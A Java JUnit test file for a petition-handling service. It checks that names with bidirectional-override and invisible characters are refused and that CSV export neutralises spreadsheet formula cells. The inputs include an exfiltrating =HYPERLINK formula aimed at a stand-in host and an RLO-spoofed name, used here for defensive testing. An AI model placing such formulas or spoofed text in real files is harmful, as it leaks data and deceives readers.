package org.citizenreception.control.validation;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.citizenreception.control.testing.TestServer;
import org.citizenreception.control.identity.Role;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Text that would act in someone else's program: names reversed on screen by a bidirectional
 * override (refused, problem+json naming the field, nothing stored) and register cells that a
 * spreadsheet would run as formulas (neutralised in petitions.csv).
 */
class InjectionRefusalTest {
    static final String RLO_NAME = "Nguyễn \u202EnăV An";

    @TempDir
    static Path dir;
    static TestServer t;
    static String secretary;
    static long session;

    @BeforeAll
    static void start() {
        t = TestServer.start(dir);
        t.createUser("host.i", Role.HOST, null);
        t.createUser("sec.i", Role.SECRETARY, null);
        String host = t.token("host.i", TestServer.passwordOf("host.i"));
        secretary = t.token("sec.i", TestServer.passwordOf("sec.i"));
        Instant start = t.clock.instant();
        TestServer.Response s = t.json("POST", "/api/v1/sessions", host, Map.of("title", "Phiên tiếp dân", "scheduledStart", start.toString(),
                "scheduledEnd", start.plus(Duration.ofHours(2)).toString(), "presidingOfficial", "Chủ tịch", "hostRoomCode", "QN-VP",
                "invitation", Map.of("type", "SUBTREE", "root", "QN-VP")));
        assertThat(s.status()).as(s.body()).isEqualTo(201);
        session = s.json().get("id").asLong();
        assertThat(t.json("POST", "/api/v1/sessions/" + session + "/state", host, Map.of("state", "LIVE")).status()).isEqualTo(200);
    }

    @AfterAll
    static void stop() {
        t.close();
    }

    @Test
    void aDisplayNameWithABidiOverrideIsRefusedNamingTheFieldAndNothingIsStored() {
        long users = t.count("users");
        TestServer.Response r = t.json("POST", "/api/v1/users", t.adminToken(), Map.of("username", "bidi.user",
                "displayName", RLO_NAME, "role", "SECRETARY", "password", "a-long-enough-password"));
        assertThat(r.status()).isEqualTo(422);
        assertThat(r.contentType()).startsWith("application/problem+json");
        assertThat(r.json().get("errors").get(0).get("field").asText()).isEqualTo("displayName");
        assertThat(r.json().get("errors").get(0).get("message").asText()).contains("U+202E");
        assertThat(t.count("users")).isEqualTo(users);
    }

    @Test
    void petitionerAndRoomNamesRefuseInvisibleAndControlCharacters() {
        long petitions = t.count("petitions");
        for (String name : List.of(RLO_NAME, "Trần\u2066 Bình", "Lê\tVăn", "Phạm\u200BThị", "Hoàng\u0085Lan")) {
            TestServer.Response r = t.json("POST", "/api/v1/sessions/" + session + "/petitions", secretary,
                    petition("COMPLAINT", name, "Nội dung"));
            assertThat(r.status()).as(name).isEqualTo(422);
            assertThat(r.json().get("errors").get(0).get("field").asText()).as(name).isEqualTo("petitioners[0].name");
        }
        assertThat(t.count("petitions")).isEqualTo(petitions);

        TestServer.Response room = t.json("PATCH", "/api/v1/rooms/QN25-HA-LONG", t.adminToken(), Map.of("name", "Hạ Long\u202E"));
        assertThat(room.status()).isEqualTo(422);
        assertThat(room.json().get("errors").get(0).get("field").asText()).isEqualTo("name");
        // Vietnamese in either Unicode form is accepted: combining marks are not format characters.
        TestServer.Response decomposed = t.json("POST", "/api/v1/sessions/" + session + "/petitions", secretary,
                petition("COMPLAINT", "Nguye\u0302\u0303n Va\u0306n An", "Nội dung"));
        assertThat(decomposed.status()).as(decomposed.body()).isEqualTo(201);
    }

    @Test
    void registerCellsThatASpreadsheetWouldRunAreExportedAsText() {
        for (String formula : List.of("=HYPERLINK(\"http://x.invalid/?\"&A1)", "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rReturn")) {
            TestServer.Response r = t.json("POST", "/api/v1/sessions/" + session + "/petitions", secretary,
                    petition("RECOMMENDATION", "Đỗ Văn Hùng", formula));
            assertThat(r.status()).as(r.body()).isEqualTo(201);
        }
        String csv = t.get("/api/v1/petitions.csv", secretary).body();
        assertThat(csv).contains("'=HYPERLINK(", "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\tTab", "'\rReturn");
        assertThat(csv).doesNotContain(",=HYPERLINK").doesNotContain(",+1+2").doesNotContain(",@SUM").doesNotContain(",-2+3");
    }

    static Map<String, Object> petition(String kind, String name, String summary) {
        Map<String, Object> p = new LinkedHashMap<>();
        p.put("kind", kind);
        p.put("originRoomCode", "QN25-BAI-CHAY");
        p.put("petitioners", List.of(Map.of("name", name, "idNumber", "012345678989", "address", "Tổ 5, Bãi Cháy, Hạ Long")));
        p.put("summary", summary);
        return p;
    }
}
